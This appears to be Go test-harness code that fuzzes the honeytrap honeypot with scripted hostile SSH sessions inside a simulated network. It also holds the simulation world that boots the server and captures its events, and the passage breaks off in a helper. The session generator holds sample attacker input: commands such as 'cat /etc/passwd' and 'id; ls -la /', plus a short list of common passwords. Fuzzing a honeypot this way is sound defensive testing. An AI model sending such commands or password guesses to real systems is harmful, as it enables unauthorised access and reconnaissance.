	// reach[i] = set of j such that s[:i+j] can be formed from a[:i] and b[:j]; sweep by total length
	cur := map[[2]int]bool{{0, 0}: true}
	for k := 0; k < len(s); k++ {
		next := map[[2]int]bool{}
		for st := range cur {
			i, j := st[0], st[1]
			if i < len(a) && a[i] == s[k] {
				next[[2]int{i + 1, j}] = true
			}
			if j < len(b) && b[j] == s[k] {
				next[[2]int{i, j + 1}] = true
			}
		}
		if len(next) == 0 {
			return false
		}
		cur = next
	}
	return true
}
