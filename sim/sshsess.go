package htsim

import (
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"
)

// Hostile SSH sessions (C01/C09/C05): raw bytes never get past the key exchange, so everything the ssh services
// do after authentication - channel types, channel requests with their payload decoders, shell/exec sessions,
// channel data - is only reachable through a real client.  An x/crypto/ssh client inside the bubble logs in and
// plays a seeded script of channels, requests (well-formed, truncated, with lying length prefixes, random) and
// data, and ends in one of several ways.

type sshReqSpec struct {
	Type    string `json:"type"`
	Payload string `json:"payload,omitempty"` // hex
	Want    bool   `json:"want,omitempty"`
}

type sshChanSpec struct {
	Type     string       `json:"type"`
	Extra    string       `json:"extra,omitempty"` // hex
	Requests []sshReqSpec `json:"requests,omitempty"`
	Data     string       `json:"data,omitempty"` // hex, written after the requests
	More     []sshReqSpec `json:"more,omitempty"` // requests sent after the data (e.g. after exec/shell)
	Close    bool         `json:"close,omitempty"`
}

type sshSessSpec struct {
	User      string        `json:"user"`
	Passwords []string      `json:"passwords"`
	Channels  []sshChanSpec `json:"channels,omitempty"`
	End       string        `json:"end"` // close | drop | idle
}

func sshString(s string) []byte {
	b := make([]byte, 4+len(s))
	binary.BigEndian.PutUint32(b, uint32(len(s)))
	copy(b[4:], s)
	return b
}

// hostilePayload: a request payload that is well-formed, cut short, lies about a length, or is random.
func hostilePayload(r *Rng, wellFormed []byte) []byte {
	switch r.Intn(7) {
	case 0, 1, 2:
		return wellFormed
	case 3: // truncated anywhere
		if len(wellFormed) == 0 {
			return nil
		}
		return wellFormed[:r.Intn(len(wellFormed))]
	case 4: // a length prefix larger than what follows
		b := append([]byte(nil), wellFormed...)
		if len(b) >= 4 {
			binary.BigEndian.PutUint32(b, uint32([]int{len(b), len(b) + 1, 0x7fffffff, 0xffffffff, 65536}[r.Intn(5)]))
		}
		return b
	case 5:
		return nil
	default:
		return r.Bytes(r.Range(1, 60))
	}
}

func genSSHSession(r *Rng) sshSessSpec {
	sp := sshSessSpec{User: r.Pick([]string{"root", "admin", "pi", ""}), End: r.Pick([]string{"close", "close", "drop", "idle"})}
	for k := r.Range(1, 3); k > 0; k-- {
		sp.Passwords = append(sp.Passwords, r.Pick([]string{"root", "123456", "", "password"}))
	}
	if r.Chance(0.1) {
		for k := r.Range(6, 12); k > 0; k-- {
			sp.Passwords = append(sp.Passwords, "x"+r.word(0, 6))
		}
	}
	nch := r.Range(0, 3)
	for c := 0; c < nch; c++ {
		ch := sshChanSpec{Type: "session", Close: r.Chance(0.6)}
		switch r.Intn(8) {
		case 0:
			ch.Type = "direct-tcpip"
			ch.Extra = hex.EncodeToString(hostilePayload(r, append(append(append(sshString("10.0.0.1"), 0, 0, 0, 80), sshString("192.168.1.5")...), 0, 0, 0xc3, 0x50)))
		case 1:
			ch.Type = "forwarded-tcpip"
			ch.Extra = hex.EncodeToString(hostilePayload(r, append(append(append(sshString("0.0.0.0"), 0, 0, 0x1f, 0x90), sshString("203.0.113.9")...), 0, 0, 0x30, 0x39)))
		case 2:
			ch.Type = "x11" + r.word(0, 3)
			ch.Extra = hex.EncodeToString(r.Bytes(r.Range(0, 30)))
		}
		req := func() sshReqSpec {
			switch r.Intn(9) {
			case 0, 1:
				return sshReqSpec{Type: "env", Payload: hex.EncodeToString(hostilePayload(r, append(sshString("LANG"), sshString("en_US.UTF-8")...))), Want: r.Chance(0.5)}
			case 2:
				return sshReqSpec{Type: "pty-req", Payload: hex.EncodeToString(hostilePayload(r, append(append(sshString("xterm"), 0, 0, 0, 80, 0, 0, 0, 24, 0, 0, 0, 0, 0, 0, 0, 0), sshString("")...))), Want: true}
			case 3:
				return sshReqSpec{Type: "subsystem", Payload: hex.EncodeToString(hostilePayload(r, sshString("sftp"))), Want: true}
			case 4:
				return sshReqSpec{Type: "tcpip-forward", Payload: hex.EncodeToString(hostilePayload(r, append(sshString("0.0.0.0"), 0, 0, 0x1f, 0x90))), Want: r.Chance(0.5)}
			case 5:
				return sshReqSpec{Type: "window-change", Payload: hex.EncodeToString(hostilePayload(r, []byte{0, 0, 0, 100, 0, 0, 0, 40, 0, 0, 0, 0, 0, 0, 0, 0}))}
			case 6:
				return sshReqSpec{Type: "x-" + r.word(1, 6), Payload: hex.EncodeToString(r.Bytes(r.Range(0, 40))), Want: r.Chance(0.3)}
			case 7:
				return sshReqSpec{Type: "exec", Payload: hex.EncodeToString(hostilePayload(r, sshString("cat /etc/passwd; "+r.word(0, 30)))), Want: true}
			default:
				return sshReqSpec{Type: "shell", Want: true}
			}
		}
		for k := r.Range(0, 4); k > 0; k-- {
			ch.Requests = append(ch.Requests, req())
		}
		if r.Chance(0.5) {
			// shell input: ordinary lines, lines of blanks only, empty lines, CR-LF endings, a very long line
			var sb strings.Builder
			for k := r.Range(1, 6); k > 0; k-- {
				sb.WriteString(r.Pick([]string{"uname -a", r.word(0, 40), "   ", "\t", "", " \t ", "id; ls -la /", strings.Repeat("A", r.Range(1, 3000)), "echo \x1b[1;", "exit"}))
				sb.WriteString(r.Pick([]string{"\n", "\n", "\r\n", "\r"}))
			}
			ch.Data = hex.EncodeToString([]byte(sb.String()))
			if r.Chance(0.3) {
				ch.Data = hex.EncodeToString([]byte("uname -a\n" + r.word(0, 40) + "\nexit\n"))
			}
			if r.Chance(0.2) {
				ch.Data = hex.EncodeToString(r.Bytes(r.Range(1, 5000)))
			}
		}
		nm := r.Range(0, 2)
		if r.Chance(0.2) {
			nm = r.Range(17, 40) // more requests than the library queues for a channel nobody reads any more ...
			// ... after a session has been started on it
			if r.Chance(0.5) {
				ch.Requests = append(ch.Requests, sshReqSpec{Type: "exec", Payload: hex.EncodeToString(sshString("id")), Want: r.Chance(0.3)})
			} else {
				ch.Requests = append(ch.Requests, sshReqSpec{Type: "shell", Want: r.Chance(0.3)})
			}
			// (without waiting for the reply the further requests are on the wire before the client has seen
			// whatever the service does to the channel)
			ch.Data = ""
			ch.Close = false
		}
		for k := 0; k < nm; k++ {
			q := req()
			if q.Type == "shell" || q.Type == "exec" {
				q = sshReqSpec{Type: "env", Payload: hex.EncodeToString(append(sshString("A"), sshString("b")...))}
			}
			q.Want = false
			ch.More = append(ch.More, q)
		}
		sp.Channels = append(sp.Channels, ch)
	}
	return sp
}

// sshSessionOp plays one scripted ssh session as a goroutine inside the bubble.
func sshSessionOp(w *World, ai int, op Op) {
	var sp sshSessSpec
	json.Unmarshal(op.Exp, &sp)
	a := &w.Sc.Actors[ai]
	go func() {
		ep, err := w.Net.Connect(mustTCPAddr(a.Src), mustTCPAddr(a.Dst))
		if err != nil {
			return
		}
		w.eps[ai] = ep
		if sp.End != "idle" {
			defer ep.Close()
		}
		ep.SetDeadline(time.Now().Add(10 * time.Minute))
		i := 0
		cfg := &ssh.ClientConfig{
			User:            sp.User,
			HostKeyCallback: ssh.InsecureIgnoreHostKey(),
			Auth: []ssh.AuthMethod{ssh.RetryableAuthMethod(ssh.PasswordCallback(func() (string, error) {
				if i >= len(sp.Passwords) {
					return "", fmt.Errorf("no more passwords")
				}
				i++
				return sp.Passwords[i-1], nil
			}), len(sp.Passwords))},
		}
		conn, chans, reqs, err := ssh.NewClientConn(ep, a.Dst, cfg)
		if err != nil {
			return
		}
		go ssh.DiscardRequests(reqs)
		go func() {
			for nc := range chans {
				nc.Reject(ssh.Prohibited, "no")
			}
		}()
		for _, cs := range sp.Channels {
			extra, _ := hex.DecodeString(cs.Extra)
			ch, creqs, err := conn.OpenChannel(cs.Type, extra)
			if err != nil {
				continue
			}
			go ssh.DiscardRequests(creqs)
			go func() { // whatever the service writes is read and dropped
				buf := make([]byte, 4096)
				for {
					if _, err := ch.Read(buf); err != nil {
						return
					}
				}
			}()
			for _, rq := range cs.Requests {
				pl, _ := hex.DecodeString(rq.Payload)
				if _, err := ch.SendRequest(rq.Type, rq.Want, pl); err != nil {
					break
				}
			}
			if cs.Data != "" {
				d, _ := hex.DecodeString(cs.Data)
				ch.Write(d)
			}
			for _, rq := range cs.More {
				pl, _ := hex.DecodeString(rq.Payload)
				if _, err := ch.SendRequest(rq.Type, false, pl); err != nil {
					break
				}
			}
			if cs.Close {
				ch.Close()
			}
		}
		switch sp.End {
		case "close":
			conn.Close()
		case "drop":
			ep.Reset()
		default: // idle: the client just stays; the service's own deadline has to end the session
		}
	}()
}
