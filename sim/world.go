package htsim

import (
	"context"
	stdtls "crypto/tls"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	stdlog "log"
	"math"
	mrand "math/rand"
	"net"
	"os"
	"path/filepath"
	"reflect"
	"runtime"
	"sort"
	"strings"
	"sync"
	"testing"
	"testing/cryptotest"
	"testing/synctest"
	"time"

	"github.com/honeytrap/honeytrap/config"
	"github.com/honeytrap/honeytrap/director/forward"
	"github.com/honeytrap/honeytrap/event"
	socketl "github.com/honeytrap/honeytrap/listener/socket"
	"github.com/honeytrap/honeytrap/pushers"
	"github.com/honeytrap/honeytrap/server"
	"github.com/honeytrap/honeytrap/services/ftp"
	"github.com/honeytrap/honeytrap/services/ipp"
	"github.com/honeytrap/honeytrap/services/smtp"
	"github.com/honeytrap/honeytrap/verifyield"
	logging "github.com/op/go-logging"

	"htsim/simnet"
)

// ---------------------------------------------------------------------------------------------
// capture channel (registered through the public channel registry)

// CapEvent is a snapshot of one event as a channel received it.
type CapEvent struct {
	Seq     int                    // global emission order
	Step    int                    // scheduler step during which it was emitted
	Channel string                 // capture channel instance name
	M       map[string]interface{} // snapshot of the key/value store (values as stored)
	Ev      event.Event
	J       string // with captureSnapJSON: the event's JSON at the moment it was sent ("" if it does not marshal)
}

// captureSnapJSON (C05): the capture channel serialises every event the moment it receives it, so that what an
// asynchronous channel writes later can be compared with what the event was when it was emitted.
var captureSnapJSON bool

type captureHub struct {
	mu     sync.Mutex
	events []CapEvent
	step   int
	slowMs map[string]int64 // channel name -> Send parks that long (fault)
}

var hub = &captureHub{}

type captureChannel struct {
	Name string `toml:"name"`
}

func (c *captureChannel) Send(e event.Event) {
	m := map[string]interface{}{}
	e.Range(func(k, v interface{}) bool {
		if ks, ok := k.(string); ok {
			m[ks] = v
		}
		return true
	})
	js := ""
	if captureSnapJSON {
		if b, err := json.Marshal(m); err == nil {
			js = string(b)
		}
	}
	hub.mu.Lock()
	slow := hub.slowMs[c.Name]
	hub.events = append(hub.events, CapEvent{Seq: len(hub.events), Step: hub.step, Channel: c.Name, M: m, Ev: e, J: js})
	hub.mu.Unlock()
	if slow > 0 {
		time.Sleep(time.Duration(slow) * time.Millisecond)
	}
}

func init() {
	pushers.Register("capture", func(options ...func(pushers.Channel) error) (pushers.Channel, error) {
		c := &captureChannel{}
		for _, o := range options {
			if err := o(c); err != nil {
				return nil, err
			}
		}
		return c, nil
	})
}

func (h *captureHub) reset() {
	h.mu.Lock()
	h.events = nil
	h.step = 0
	h.slowMs = map[string]int64{}
	h.mu.Unlock()
}
func (h *captureHub) snapshot() []CapEvent {
	h.mu.Lock()
	defer h.mu.Unlock()
	return append([]CapEvent(nil), h.events...)
}
func (h *captureHub) setStep(s int) {
	h.mu.Lock()
	h.step = s
	h.mu.Unlock()
}

// ---------------------------------------------------------------------------------------------
// seams: route the OS-facing call sites of honeytrap to the simulated kernel

func installSeams() {
	socketl.VerifListen = func(network, address string) (net.Listener, error) {
		return simnet.Current.Listen(network, address)
	}
	socketl.VerifListenUDP = func(network string, laddr *net.UDPAddr) (socketl.VerifUDPSocket, error) {
		u, err := simnet.Current.ListenUDP(network, laddr)
		if err != nil {
			return nil, err
		}
		return u, nil
	}
	ftp.VerifListenTCP = func(network string, laddr *net.TCPAddr) (net.Listener, error) {
		l, err := simnet.Current.ListenTCP(laddr, "ftp-passive")
		if err != nil {
			return nil, err
		}
		return l, nil
	}
	ftp.VerifDialTCP = func(network string, laddr, raddr *net.TCPAddr) (*net.TCPConn, error) {
		return nil, &net.OpError{Op: "dial", Net: network, Addr: raddr, Err: fmt.Errorf("network is unreachable (simulated)")}
	}
	ftp.VerifDialConn = func(network string, laddr, raddr *net.TCPAddr) (net.Conn, error) {
		// active mode: the service dials the address the client named in PORT/EPRT
		return simnet.Current.Dial(network, raddr.String())
	}
	forward.VerifDial = func(network, address string) (net.Conn, error) {
		return simnet.Current.Dial(network, address)
	}
}

// ---------------------------------------------------------------------------------------------
// observation

type Chunk struct {
	Step int
	Data []byte
}

type ConnObs struct {
	Actor        int
	Kind         string
	Refused      bool
	Recv         []byte   // everything the client received, in order
	Chunks       []Chunk  // the same, by step
	ServerClosed bool     // server side closed (TCP)
	ClosedAtMs   int64    // simulated ms since run start when the server closed its side
	ServerRead   int      // bytes the server side actually consumed
	Sent         int      // bytes the script delivered
	OpStep       []int    // scheduler step at which op i (first segment) was applied
	OpDoneStep   []int    // step at which op i's last segment was applied
	ConnectMs    int64    // simulated time of the connect
	SegMs        []int64  // simulated time of every delivered segment
	EndMs        int64    // simulated time of close/reset/halfclose by the client (0 = never)
	Dgrams       [][]byte // UDP: responses received
	DgramSteps   []int
}

type Obs struct {
	Yields    int // yield points at which the run gave way to other goroutines
	Conns     []ConnObs
	Events    []CapEvent
	NetLog    []string
	Steps     int
	SimMs     int64
	NetStats  simnet.Stats
	BootErr   string
	Trace     []string // step trace (for digests / determinism)
	Extra     map[string]interface{}
	StepHook  []string
	Listening []string
	UDPSocks  []string
	TmpDir    string
}

// ---------------------------------------------------------------------------------------------
// world

type World struct {
	T        *testing.T
	Sc       *Scenario
	Net      *simnet.Net
	Obs      *Obs
	Start    time.Time
	step     int
	eps      []*simnet.Endpoint // per actor (tcp)
	tls      map[int]*tlsLeg    // actors that upgraded their connection ("starttls" op)
	progress func(string)
	// StepCheck is called after every step (invariants); a non-empty string aborts the run.
	StepCheck func(w *World) string
	Abort     string
	HT        *server.Honeytrap
	TmpDir    string
	PreBoot   func(dir string)
	// SendHook lets an engine deliver the segments of "send" ops itself (returns true when it did)
	SendHook func(actor int, seg []byte) bool
	// Custom executes engine-specific op kinds (emit, frame, ...)
	Custom func(w *World, actor int, op Op)
}

// tlsLeg: the client side of a connection after an in-band TLS upgrade (SMTP STARTTLS, FTP AUTH TLS): a library
// TLS client over the simulated endpoint; a reader goroutine collects what the server sends as plaintext.
type tlsLeg struct {
	c    *stdtls.Conn
	mu   sync.Mutex
	recv []byte
	err  string // handshake error ("" = completed)
	done bool
}

var dataDir string // per-process data dir (badger opened once, outside any bubble)

// prepareProcess is called once per worker process, outside any bubble.
func prepareProcess(t *testing.T) {
	if dataDir != "" {
		return
	}
	installSeams()
	ipp.VerifResetModel()
	// no write(2) from inside a bubble: a goroutine in a system call can lose its P to the runtime's monitor
	// thread and comes back through the global run queue - an order that depends on wall-clock timing.  The
	// loggers of honeytrap (go-logging and the standard log package) write to memory-less sinks instead.
	logging.SetBackend(logging.NewLogBackend(io.Discard, "", 0))
	stdlog.SetOutput(io.Discard)
	tmpl := os.Getenv("VERIF_DATADIR_TEMPLATE")
	dir, err := os.MkdirTemp("", "htsim-data-")
	if err != nil {
		t.Fatalf("tempdir: %v", err)
	}
	if tmpl != "" {
		if err := copyTree(tmpl, dir); err != nil {
			t.Fatalf("copy datadir template: %v", err)
		}
	}
	dataDir = dir
	// open badger + make sure all storage-backed identities exist (outside the bubble: DESIGN §2.2)
	if _, err := server.WithDataDir(dir); err != nil {
		t.Fatalf("datadir: %v", err)
	}
	opt, _ := server.WithDataDir(dir)
	h, _ := server.New()
	opt(h)
	prewarmStorage()
}

func copyTree(src, dst string) error {
	return filepath.Walk(src, func(p string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		rel, _ := filepath.Rel(src, p)
		target := filepath.Join(dst, rel)
		if info.IsDir() {
			return os.MkdirAll(target, 0755)
		}
		if info.Name() == "LOCK" {
			return nil
		}
		data, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		return os.WriteFile(target, data, info.Mode())
	})
}

const baseConfig = `
[listener]
type="socket"

[channel.cap]
type="capture"
name="cap"

[[filter]]
channel=["cap"]
`

// bootServer starts the real server inside the current bubble.
func (w *World) bootServer(cfg string) error {
	config.Default = config.Config{}
	// process-global registry of SMTP message handlers: every constructed smtp service adds itself;
	// services of earlier (dead) bubbles must not stay registered
	smtp.DefaultServeMux = smtp.NewServeMux()
	ipp.VerifResetModel()
	dir := w.T.TempDir()
	w.TmpDir = dir
	w.Obs.TmpDir = dir
	if w.PreBoot != nil {
		w.PreBoot(dir)
	}
	cfg = strings.ReplaceAll(cfg, "@TMP@", dir)
	path := filepath.Join(dir, "config.toml")
	if err := os.WriteFile(path, []byte(cfg), 0644); err != nil {
		return err
	}
	cfgOpt, err := server.WithConfig(path)
	if err != nil {
		return err
	}
	ddOpt, err := server.WithDataDir(dataDir)
	if err != nil {
		return err
	}
	h, err := server.New(cfgOpt, ddOpt, server.WithToken())
	if err != nil {
		return err
	}
	w.HT = h
	go h.Run(context.Background())
	synctest.Wait()
	return nil
}

func (w *World) nowMs() int64 { return int64(time.Since(w.Start) / time.Millisecond) }

func (w *World) tracef(format string, a ...interface{}) {
	w.Obs.Trace = append(w.Obs.Trace, fmt.Sprintf("%d@%d ", w.step, w.nowMs())+fmt.Sprintf(format, a...))
}

// actor cursor
type cursor struct {
	op, seg  int
	groupEnd int
	segs     [][]byte
	conn     bool // connected (tcp)
	done     bool
}

// RunOpts tunes a run.
type RunOpts struct {
	Progress func(string)
}

// RunScenario executes one scenario in a fresh bubble with a fresh server and returns what was
// observed.  Deterministic given the scenario (GOMAXPROCS=1).
// firstObs is the observation of the first simulated run of the scenario being judged (trace dumps)
var firstObs *Obs

func RunScenario(t *testing.T, sc *Scenario, custom func(w *World)) (obs *Obs) {
	prepareProcess(t)
	obs = &Obs{Extra: map[string]interface{}{}}
	if firstObs == nil {
		firstObs = obs
	}
	hub.reset()
	n := simnet.New()
	simnet.Current = n
	mrand.Seed(int64(sc.Seed))
	// yield points: in runs that ask for it, a goroutine reaching a synchronisation point gives way to the other
	// runnable goroutines of the step when the run's own choice stream says so (GOMAXPROCS=1: deterministic)
	verifyield.Hook = nil
	obs.Yields = 0
	if pct := sc.ParamInt("yield_pct", 0); pct > 0 {
		yr := NewRng(sc.Seed, "yield")
		ylog := os.Getenv("VERIF_YIELDLOG") != ""
		// yield_hot > 0: "buggify" style - a random subset of the yield SITES is hot for this run (a goroutine
		// reaching a hot site always gives way, at the others never); otherwise every site yields with yield_pct %.
		hotPct := sc.ParamInt("yield_hot", 0)
		yieldRounds := sc.ParamInt("yield_rounds", 1)
		hot := map[uintptr]bool{}
		verifyield.Hook = func() {
			take := false
			if hotPct > 0 {
				pc, _, _, _ := runtime.Caller(2)
				h, ok := hot[pc]
				if !ok {
					_, file, line, _ := runtime.Caller(2)
					hr := NewRng(sc.Seed, fmt.Sprintf("hot/%s:%d", filepath.Base(file), line))
					h = hr.Intn(100) < hotPct
					hot[pc] = h
				}
				take = h
			} else {
				take = yr.Intn(100) < pct
			}
			if ylog {
				_, file, line, _ := runtime.Caller(2)
				obs.Trace = append(obs.Trace, fmt.Sprintf("Y %s:%d %v", filepath.Base(file), line, take))
			}
			if take {
				obs.Yields++
				// give way several times in a row: goroutines that only become runnable through what the others do
				// meanwhile (the listener hands the next datagram to the accept loop, which starts the next handler)
				// get their turn too before this one goes on
				for i := 0; i < yieldRounds; i++ {
					runtimeGoyield()
				}
			}
		}
	}
	defer func() { verifyield.Hook = nil }()
	name := fmt.Sprintf("run-%d", sc.Seed)
	t.Run(name, func(t *testing.T) {
		cryptotest.SetGlobalRandom(t, sc.Seed)
		defer func() {
			if r := recover(); r != nil {
				s := fmt.Sprint(r)
				if strings.Contains(s, "main bubble goroutine has exited") {
					return // expected: the server's goroutines never exit (DESIGN §2.2 rule 3)
				}
				panic(r)
			}
		}()
		synctest.Test(t, func(t *testing.T) {
			w := &World{T: t, Sc: sc, Net: n, Obs: obs, Start: time.Now()}
			n.Step = &w.step
			if custom != nil {
				custom(w)
			} else {
				w.runStandard()
			}
			obs.Events = hub.snapshot()
			obs.NetLog = append([]string(nil), n.Log...)
			obs.NetStats = n.Stats
			obs.Steps = w.step
			obs.SimMs = w.nowMs()
		})
	})
	return obs
}

// runStandard boots the configured server and plays the actors under the schedule.
func (w *World) runStandard() {
	sc := w.Sc
	if err := w.bootServer(sc.Config); err != nil {
		w.Obs.BootErr = err.Error()
		return
	}
	w.Obs.Listening = w.Net.TCPListeners()
	w.Obs.UDPSocks = w.Net.UDPSockets()
	w.Play()
	w.Drain()
}

// Play runs all actor scripts to completion under the schedule.
func (w *World) Play() {
	sc := w.Sc
	obs := w.Obs
	cur := make([]cursor, len(sc.Actors))
	w.eps = make([]*simnet.Endpoint, len(sc.Actors))
	w.tls = nil // (legs belong to the actors of one Play)
	obs.Conns = make([]ConnObs, len(sc.Actors))
	for i, a := range sc.Actors {
		obs.Conns[i] = ConnObs{Actor: i, Kind: a.Kind, OpStep: make([]int, len(a.Ops)), OpDoneStep: make([]int, len(a.Ops))}
		if len(a.Ops) == 0 && a.Kind != "tcp" {
			cur[i].done = true
		}
	}
	tape := 0
	for {
		var enabled []int
		for i := range cur {
			if !cur[i].done {
				enabled = append(enabled, i)
			}
		}
		if len(enabled) == 0 {
			break
		}
		batch := 1
		v := 0
		if tape < len(sc.Schedule) {
			v = sc.Schedule[tape]
		}
		if v&(1<<16) != 0 {
			batch = 2 + (v>>17)&3
		}
		w.step++
		hub.setStep(w.step)
		for b := 0; b < batch; b++ {
			v = 0
			if tape < len(sc.Schedule) {
				v = sc.Schedule[tape]
			}
			tape++
			enabled = enabled[:0]
			for i := range cur {
				if !cur[i].done {
					enabled = append(enabled, i)
				}
			}
			if len(enabled) == 0 {
				break
			}
			idx := enabled[(v&0xffff)%len(enabled)]
			w.microStep(idx, &cur[idx])
		}
		synctest.Wait()
		w.collect()
		if w.StepCheck != nil {
			if msg := w.StepCheck(w); msg != "" {
				w.Abort = msg
				return
			}
		}
		if w.step > 20000 {
			w.Abort = "step limit"
			return
		}
	}
}

func (w *World) microStep(i int, c *cursor) {
	a := &w.Sc.Actors[i]
	co := &w.Obs.Conns[i]
	switch a.Kind {
	case "tcp":
		if !c.conn {
			c.conn = true
			ep, err := w.Net.Connect(mustTCPAddr(a.Src), mustTCPAddr(a.Dst))
			co.ConnectMs = w.nowMs()
			w.tracef("a%d connect %s->%s err=%v", i, a.Src, a.Dst, err != nil)
			if err != nil {
				co.Refused = true
				c.done = true
				return
			}
			w.eps[i] = ep
			if len(a.Ops) == 0 {
				c.done = true
			}
			return
		}
	}
	if c.op >= len(a.Ops) {
		c.done = true
		return
	}
	op := a.Ops[c.op]
	if c.seg == 0 {
		co.OpStep[c.op] = w.step
	}
	advance := true
	switch op.K {
	case "send":
		if c.segs == nil {
			// a group of joined ops forms one byte stream; cuts are the union of the ops' own cuts
			j := c.op
			var data []byte
			var cuts []int
			for {
				o := a.Ops[j]
				ob := o.Bytes()
				for _, ct := range o.Cuts {
					if ct > 0 && ct < len(ob) {
						cuts = append(cuts, len(data)+ct)
					}
				}
				data = append(data, ob...)
				if !o.Join || j+1 >= len(a.Ops) || a.Ops[j+1].K != "send" {
					break
				}
				j++
			}
			c.segs = Op{Data: hex.EncodeToString(data), Cuts: cuts}.Segments()
			c.groupEnd = j
			for k := c.op; k <= j; k++ {
				co.OpStep[k] = w.step
			}
		}
		seg := c.segs[c.seg]
		kind := a.Kind
		if w.SendHook != nil && w.SendHook(i, seg) {
			kind = "hooked"
			co.Sent += len(seg)
		}
		switch kind {
		case "tcp":
			if leg := w.tls[i]; leg != nil {
				// one segment = one TLS record: the service's reads see the same boundaries as with plaintext
				if leg.done && leg.err == "" {
					leg.c.Write(seg)
				}
				co.Sent += len(seg)
			} else if ep := w.eps[i]; ep != nil {
				ep.PeerInject(seg)
				co.Sent += len(seg)
			}
		case "udp":
			w.Net.SendUDP(mustUDPAddr(a.Src), mustUDPAddr(a.Dst), seg)
			co.Sent += len(seg)
		}
		co.SegMs = append(co.SegMs, w.nowMs())
		w.tracef("a%d send op%d seg%d len=%d", i, c.op, c.seg, len(seg))
		c.seg++
		if c.seg < len(c.segs) {
			advance = false
		} else {
			for k := c.op; k <= c.groupEnd; k++ {
				co.OpDoneStep[k] = w.step
			}
			c.op = c.groupEnd
			// a close marked "same-step" happens right behind the last segment, before the server runs
			if nx := c.groupEnd + 1; nx < len(a.Ops) && a.Ops[nx].K == "close" && a.Ops[nx].Note == "same-step" {
				if ep := w.eps[i]; ep != nil {
					ep.Close()
				}
				co.EndMs = w.nowMs()
				co.OpStep[nx], co.OpDoneStep[nx] = w.step, w.step
				w.tracef("a%d close (same step)", i)
				c.op = nx
			}
		}
	case "starttls":
		// the protocol's own upgrade command has been answered in an earlier step; from here on the client speaks TLS
		if ep := w.eps[i]; ep != nil {
			if w.tls == nil {
				w.tls = map[int]*tlsLeg{}
			}
			leg := &tlsLeg{c: stdtls.Client(ep, &stdtls.Config{InsecureSkipVerify: true, MaxVersion: stdtls.VersionTLS12})}
			w.tls[i] = leg
			go func() {
				err := leg.c.Handshake()
				leg.mu.Lock()
				leg.done = true
				if err != nil {
					leg.err = err.Error()
				}
				leg.mu.Unlock()
				if err != nil {
					return
				}
				buf := make([]byte, 8192)
				for {
					n, err := leg.c.Read(buf)
					leg.mu.Lock()
					leg.recv = append(leg.recv, buf[:n]...)
					leg.mu.Unlock()
					if err != nil {
						return
					}
				}
			}()
		}
		w.tracef("a%d starttls", i)
	case "close":
		if leg := w.tls[i]; leg != nil {
			leg.c.Close()
		} else if ep := w.eps[i]; ep != nil {
			ep.Close()
		}
		co.EndMs = w.nowMs()
		w.tracef("a%d close", i)
	case "halfclose":
		if ep := w.eps[i]; ep != nil {
			ep.CloseWrite()
		}
		w.tracef("a%d halfclose", i)
	case "reset":
		if ep := w.eps[i]; ep != nil {
			ep.Reset()
		}
		w.tracef("a%d reset", i)
	case "sleep":
		time.Sleep(time.Duration(op.Ms) * time.Millisecond)
		w.tracef("a%d sleep %dms", i, op.Ms)
	case "stall":
		if ep := w.eps[i]; ep != nil {
			ep.SetStalled(true)
		}
		w.tracef("a%d stall", i)
	case "unstall":
		if ep := w.eps[i]; ep != nil {
			ep.SetStalled(false)
		}
		w.tracef("a%d unstall", i)
	case "nop":
	default:
		if w.Custom == nil {
			panic("unknown op kind " + op.K)
		}
		w.Custom(w, i, op)
		w.tracef("a%d %s", i, op.K)
	}
	if advance {
		co.OpDoneStep[c.op] = w.step
		c.op++
		c.seg = 0
		c.segs = nil
		if c.op >= len(a.Ops) {
			c.done = true
		}
	}
}

// collect drains what clients received during this step.
func (w *World) collect() {
	for i := range w.Sc.Actors {
		a := &w.Sc.Actors[i]
		co := &w.Obs.Conns[i]
		switch a.Kind {
		case "tcp":
			ep := w.eps[i]
			if ep == nil {
				continue
			}
			var b []byte
			if leg := w.tls[i]; leg != nil {
				leg.mu.Lock()
				b, leg.recv = leg.recv, nil
				if leg.done && leg.err != "" && w.Obs.Extra["tls-handshake-error"] == nil {
					w.Obs.Extra["tls-handshake-error"] = fmt.Sprintf("actor %d: %s", i, leg.err)
				}
				leg.mu.Unlock()
			} else {
				b = ep.Take()
			}
			if len(b) > 0 {
				co.Recv = append(co.Recv, b...)
				co.Chunks = append(co.Chunks, Chunk{Step: w.step, Data: b})
				w.tracef("a%d recv", i) // (no length: replies may quote host paths of varying length)
			}
			if !co.ServerClosed && ep.PeerClosed() {
				co.ServerClosed = true
				co.ClosedAtMs = w.nowMs()
				w.tracef("a%d server-closed", i)
			}
		}
	}
}

// Drain lets simulated time pass after the last action so that timers (idle deadlines, flushes)
// fire; stops early when nothing is left to observe.
func (w *World) Drain() {
	total := w.Sc.DrainMs
	if total <= 0 {
		total = 100
	}
	slices := []int64{10, 90, 900, 4000, 26000, 30000, 60000, 180000, 300000}
	var spent int64
	for _, s := range slices {
		if spent >= total {
			break
		}
		if spent+s > total {
			s = total - spent
		}
		w.step++
		hub.setStep(w.step)
		time.Sleep(time.Duration(s) * time.Millisecond)
		synctest.Wait()
		spent += s
		w.collect()
		if w.StepCheck != nil {
			if msg := w.StepCheck(w); msg != "" {
				w.Abort = msg
				return
			}
		}
	}
	// UDP responses: gather per actor
	out := w.Net.AllUDPOut()
	for i := range w.Sc.Actors {
		a := &w.Sc.Actors[i]
		if a.Kind != "udp" {
			continue
		}
		src := mustUDPAddr(a.Src)
		for _, d := range out {
			if d.To != nil && d.To.Port == src.Port && d.To.IP.Equal(src.IP) {
				w.Obs.Conns[i].Dgrams = append(w.Obs.Conns[i].Dgrams, d.Payload)
			}
		}
	}
	for i := range w.Sc.Actors {
		if ep := w.eps[i]; ep != nil {
			w.Obs.Conns[i].ServerRead = ep.PeerTotalRead()
		}
	}
}

// ---------------------------------------------------------------------------------------------
// canonicalisation helpers

// canonValue renders an event value deterministically (no addresses of pointers, sorted maps).
func canonValue(v interface{}) string {
	switch x := v.(type) {
	case nil:
		return "<nil>"
	case string:
		return x
	case []byte:
		return fmt.Sprintf("bytes:%x", x)
	case error:
		return "error:" + x.Error()
	case time.Time:
		return "time"
	case fmt.Stringer:
		rv := reflect.ValueOf(v)
		if rv.Kind() == reflect.Ptr && rv.IsNil() {
			return "<nil>"
		}
		return x.String()
	case float64:
		if math.IsNaN(x) {
			return "NaN"
		}
	}
